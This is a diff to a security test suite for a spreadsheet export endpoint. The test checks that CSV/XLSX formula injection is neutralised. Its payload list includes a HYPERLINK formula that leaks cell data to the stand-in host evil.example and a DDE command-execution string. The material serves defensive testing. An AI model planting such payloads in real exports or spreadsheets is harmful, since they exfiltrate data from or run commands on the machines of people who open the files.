@@ -26,7 +26,7 @@ from tests.security.live import request, serve, sign_in
 EXPORT = "/exports/top-ideas"
 FORM = {"format": "csv", "top": "10", "delimiter": ";", "language": "nl"}
 
-# The catalogue's payloads, exactly (EXP-01), plus XlsxWriter's array-formula form (EXP-02).
+# The catalogue's payloads, exactly (EXP-01), plus the array-formula form (EXP-02).
 PAYLOADS = [
     "=1+1",
     "+1+1",
@@ -38,7 +38,7 @@ PAYLOADS = [
     '=HYPERLINK("https://evil.example/?d="&A2;"klik")',
     "=cmd|' /C calc'!A0",
 ]
-ARRAY_FORMULA = "{=1+1}"  # harmless in CSV, a formula to XlsxWriter's write()
+ARRAY_FORMULA = "{=1+1}"  # harmless in CSV, an array formula to spreadsheet writers
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -162,9 +162,9 @@ def test_exp_02_the_xlsx_holds_no_formula_and_every_text_is_a_string(
     for row in range(2, 2 + len(stored)):
         for column in text_columns:
             assert sheet.cell(row, column).data_type == "s"
-    # OOXML stores a carriage return as _x000D_, which Excel shows as the character again.
+    # Every text reads back as typed, the leading carriage return included (&#13;).
     titles = [sheet.cell(row, text_columns[0]).value for row in range(2, 2 + len(stored))]
-    assert titles == [payload.replace("\r", "_x000D_") for payload in stored]
+    assert titles == stored
     assert _stored_titles(app) == stored
 
 
